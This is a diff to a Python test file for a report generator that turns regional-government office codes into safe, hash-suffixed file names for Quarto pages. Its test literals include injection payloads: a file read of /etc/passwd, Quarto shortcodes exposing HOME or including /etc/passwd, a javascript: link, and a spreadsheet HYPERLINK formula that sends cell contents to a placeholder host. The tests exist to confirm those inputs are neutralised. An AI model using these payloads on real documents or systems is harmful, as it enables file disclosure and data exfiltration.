@@ -65,7 +65,10 @@ def names() -> dict[str, str]:
 
 PEMDA = yaml.safe_load((HOSTILE / "params" / "2024.yml").read_text(encoding="utf-8"))["pemda"]["nama"]
 #: Site page of each OPD (``run.safe_name`` of its code, written out here by hand).
-PAGES = {"1.01": "1.01", "1.02": "1.02", "=1+2": "1_2", "1.04": "1.04", "@1.05": "1.05"}
+#: File names of the codes, worked out by hand from the rule of :mod:`kinerja.names` (a code that is
+#: not plain: its letters, digits and ``._-`` with the rest as ``_``, trimmed, then ``~`` and the first
+#: 12 hex digits of the code's SHA-256).
+PAGES = {"1.01": "1.01", "1.02": "1.02", "=1+2": "1_2~673222ac0c0a", "1.04": "1.04", "@1.05": "1.05~291aabf4b0c2"}
 #: Texts that must reach the PDF as typed.
 LITERAL = ['#read("/etc/passwd")', '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "{{< env HOME >}}",
            "{{< include /etc/passwd >}}", "{{{< meta title >}}}", "Dinas [Klik](javascript:alert(1)) ~~coret~~ ^atas^",
@@ -372,8 +375,9 @@ def test_pemda_named_with_dollars_draws_its_trend():
 
 
 def test_codes_become_file_names_every_engine_lists():
-    """Codes become file names of letters, digits, ``.``, ``-``, ``_``, never starting with ``_`` or
-    ``.`` (Quarto leaves such files out of a listing: the OPDs coded ``=1+2`` and ``@1.05`` were
-    missing from its Daftar OPD)."""
+    """Codes become file names of letters, digits, ``.``, ``-``, ``_`` (and ``~`` before a hash for
+    codes that are not plain), never starting with ``_`` or ``.`` (Quarto leaves such files out of a
+    listing: the OPDs coded ``=1+2`` and ``@1.05`` were missing from its Daftar OPD)."""
     assert [run.safe_name(code) for code in ("1.02.01", "=1+2", "@1.05", ".x", "{{< env HOME >}}", "===")] == [
-        "1.02.01", "1_2", "1.05", "x", "env_HOME____", "opd"]
+        "1.02.01", "1_2~673222ac0c0a", "1.05~291aabf4b0c2", "x~bb42e4c60255", "env_HOME~4ec3b2c64a26",
+        "opd~2cf2b04b1bae"]
